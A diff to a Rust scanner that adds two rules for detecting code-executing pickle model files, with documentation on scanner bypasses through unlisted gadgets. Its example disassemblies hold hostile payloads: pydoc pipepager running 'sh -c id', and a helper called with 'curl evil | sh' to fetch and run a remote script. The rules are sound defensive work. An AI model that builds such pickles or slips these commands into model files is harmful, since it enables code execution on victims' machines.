@@ -334,4 +334,71 @@ aisec_core::declare_rules! {
         owasp: OWASP,
         remediation: "Treat the file as untrusted.",
     };
+
+    /// ## What it detects
+    /// A pickle that calls (or BUILDs an instance whose `__setstate__` is) a
+    /// callable outside the deny list that the generated capability table
+    /// (`crates/aisec-pickle/capabilities.tsv`, from a call-graph analysis of
+    /// the CPython standard library, torch, numpy, pandas, joblib and
+    /// scikit-learn) shows can execute code, spawn processes, write files,
+    /// open network connections, import modules by name or unpickle further
+    /// data: a pager that runs `os.system`, a compiler helper inside torch, a
+    /// module's private alias of `os` (`somemodule._os.system`),
+    /// `numpy.ndarray.tofile`, a loader that fetches and unpickles a URL.
+    /// Imported but not called, the same global is reported at medium.
+    ///
+    /// ## Why it matters
+    /// A name list is what attackers route around: every published
+    /// picklescan/modelscan bypass used a function nobody had listed. What a
+    /// function can reach does not depend on anyone having listed it.
+    ///
+    /// ## Example
+    /// ```text
+    ///  0: c    GLOBAL     'pydoc pipepager'
+    /// 17: (    MARK
+    /// 18: S        STRING     'x'
+    /// 23: S        STRING     'sh -c id'
+    /// 35: t        TUPLE      (MARK at 17)
+    /// 36: R    REDUCE
+    /// ```
+    pub static CAPABILITY_CALL = {
+        id: "AISEC-PICKLE-014",
+        name: "pickle-capability-call",
+        title: "Pickle calls a function that can run code, processes, files or network",
+        severity: Critical,
+        atlas: ATLAS,
+        owasp: OWASP,
+        remediation: REM_CODE,
+    };
+
+    /// ## What it detects
+    /// A call of a function that is neither allowlisted nor known to the
+    /// capability table, with string or bytes arguments (a command, path,
+    /// URL or payload). Class-like names (CapWords, PEP 8), whose
+    /// constructors ordinary checkpoints call with strings (enums such as
+    /// `IntervalStrategy('steps')`), and argument-less calls stay at medium
+    /// ([AISEC-PICKLE-005](#AISEC-PICKLE-005)).
+    ///
+    /// ## Why it matters
+    /// Model files rebuild objects; they do not call free functions with
+    /// text. A third-party helper the analysis cannot see into, called with
+    /// attacker data at load time, is how unlisted gadgets are used.
+    ///
+    /// ## Example
+    /// ```text
+    ///  0: c    GLOBAL     'somelib.utils run_command'
+    /// 27: (    MARK
+    /// 28: S        STRING     'curl evil | sh'
+    /// 46: t        TUPLE      (MARK at 27)
+    /// 47: R    REDUCE
+    /// ```
+    pub static UNKNOWN_CALL_DATA = {
+        id: "AISEC-PICKLE-015",
+        name: "pickle-unknown-call-with-data",
+        title: "Pickle calls an unknown function with string or bytes arguments",
+        severity: High,
+        atlas: ATLAS,
+        owasp: OWASP,
+        remediation: "Review the function; if it is trusted code of your own, add it to [pickle] allow in the aisec policy.",
+    };
 }
